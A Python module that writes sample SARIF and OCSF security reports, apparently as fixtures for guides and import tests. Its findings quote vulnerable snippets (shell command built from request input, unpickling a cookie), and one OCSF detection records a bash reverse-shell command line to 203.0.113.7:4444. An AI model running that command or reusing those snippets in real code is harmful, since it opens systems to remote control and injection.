"""Two reports as security tools write them, one SARIF and one OCSF, for guides and first tries."""

from __future__ import annotations

import json
from collections.abc import Mapping
from pathlib import Path
from typing import Any

# What an import of each with no rules of its own comes to.
TICKETS: Mapping[str, int] = {"code.sarif": 2, "cluster.ocsf.json": 2}
BELOW: Mapping[str, int] = {"code.sarif": 2, "cluster.ocsf.json": 2}

Object = dict[str, Any]


def write(folder: Path) -> tuple[Path, Path]:
    """Write ``code.sarif`` and ``cluster.ocsf.json`` into a folder that exists; their paths."""
    written = []
    for name, content in (("code.sarif", sarif()), ("cluster.ocsf.json", ocsf())):
        path = folder / name
        path.write_text(json.dumps(content, indent=1) + "\n", encoding="utf-8")
        written.append(path)
    return written[0], written[1]


def sarif() -> Object:
    """A SARIF 2.1.0 log of four results: critical, high, medium and low."""
    rules = [
        _rule("CODE-078", "Command built from user input", "9.8", "cwe-78", "Pass arguments as a list."),
        _rule("CODE-502", "Untrusted data is unpickled", "8.1", "cwe-502", "Read JSON instead."),
        _rule("CODE-327", "Weak hash", "5.3", "cwe-327", "Use SHA-256."),
        _rule("CODE-703", "Assertion in production code", "2.0", "cwe-703", "Raise an error."),
    ]
    results = [
        _result(0, "prod/checkout/app.py", 42, "subprocess.call(request.args['cmd'], shell=True)"),
        _result(1, "prod/checkout/cart.py", 17, "cart = pickle.loads(cookie)"),
        _result(2, "tools/digest.py", 8, "hashlib.md5(data)"),
        _result(3, "tools/check.py", 3, "assert user.is_admin"),
    ]
    driver = {"name": "Harbour Code Scan", "version": "4.2.0", "rules": rules}
    for result in results:
        result["ruleId"] = rules[result["ruleIndex"]]["id"]
        result["message"] = {"text": rules[result["ruleIndex"]]["shortDescription"]["text"]}
    schema = "https://json.schemastore.org/sarif-2.1.0.json"
    runs = [{"tool": {"driver": driver}, "results": results}]
    return {"$schema": schema, "version": "2.1.0", "runs": runs}


def _rule(name: str, says: str, score: str, weakness: str, fix: str) -> Object:
    return {
        "id": name,
        "shortDescription": {"text": says},
        "help": {"text": fix},
        "helpUri": f"https://scanner.example/rules/{name.lower()}",
        "properties": {"security-severity": score, "tags": ["security", f"external/cwe/{weakness}"]},
    }


def _result(rule: int, uri: str, line: int, code: str) -> Object:
    region = {"startLine": line, "snippet": {"text": code}}
    return {
        "ruleIndex": rule,
        "level": "error",
        "locations": [{"physicalLocation": {"artifactLocation": {"uri": uri}, "region": region}}],
        "partialFingerprints": {"primaryLocationLineHash/v1": f"{uri}:{code}"},
    }


def ocsf() -> list[Object]:
    """Four OCSF events: a critical detection, a vulnerability with an exploit, and two milder ones."""
    shell = _event(2004, 5, "det-7c1e", "Reverse shell in a container", "prod/payments/api-7d9f")
    shell["finding_info"] |= {
        "analytic": {"name": "Reverse shell", "uid": "runtime-014", "type_id": 1},
        "attacks": [
            {
                "technique": {"uid": "T1059.004", "name": "Unix Shell"},
                "tactic": {"uid": "TA0002", "name": "Execution"},
            }
        ],
        "src_url": "https://cluster.example/findings/det-7c1e",
    }
    shell["evidences"] = [
        {"process": {"cmd_line": "bash -i >& /dev/tcp/203.0.113.7/4444", "pid": 3117}},
        {"connection_info": {"direction": "outbound"}, "dst_endpoint": {"ip": "203.0.113.7", "port": 4444}},
    ]
    shell["observables"] = [{"name": "dst_endpoint.ip", "type_id": 2, "value": "203.0.113.7"}]
    shell["remediation"] = {
        "desc": "Isolate the pod, keep its disk, rotate its service account's token.",
        "references": ["https://cluster.example/playbooks/reverse-shell"],
    }
    library = _event(2002, 4, "vul-2210", "OpenSSL before 3.0.7 in an image", "registry/prod/api:1.42")
    library["vulnerabilities"] = [
        {
            "cve": {"uid": "CVE-2022-3602", "cvss": [{"version": "3.1", "base_score": 7.5}]},
            "is_exploit_available": True,
            "remediation": {"desc": "Build the image on a base with OpenSSL 3.0.7 or later."},
            "references": ["https://nvd.nist.gov/vuln/detail/CVE-2022-3602"],
        }
    ]
    bucket = _event(2003, 3, "cmp-0031", "A bucket may be read by everyone", "arn:aws:s3:::harbour-assets")
    bucket["compliance"] = {
        "control": "S3.2",
        "status_id": 3,
        "standards": ["CIS AWS Foundations 3.0"],
        "requirements": ["2.1.4"],
    }
    notice = _event(2004, 1, "det-7c1f", "A new image was pulled", "prod/payments/api-7d9f")
    return [shell, library, bucket, notice]


def _event(kind: int, severity: int, uid: str, title: str, resource: str) -> Object:
    at = 1_767_225_600_000  # milliseconds; any moment will do
    return {
        "activity_id": 1,
        "category_uid": 2,
        "class_uid": kind,
        "type_uid": kind * 100 + 1,
        "severity_id": severity,
        "time": at,
        "message": title + ".",
        "metadata": {"version": "1.4.0", "product": {"name": "Harbour Watch", "vendor_name": "Harbour"}},
        "finding_info": {"uid": uid, "title": title, "created_time": at},
        "resources": [{"uid": resource, "type": "Workload", "region": "eu-south-1"}],
        "cloud": {
            "provider": "aws",
            "account": {"uid": "123456789012", "name": "harbour-production", "type_id": 10},
            "region": "eu-south-1",
        },
        "status_id": 1,
    }
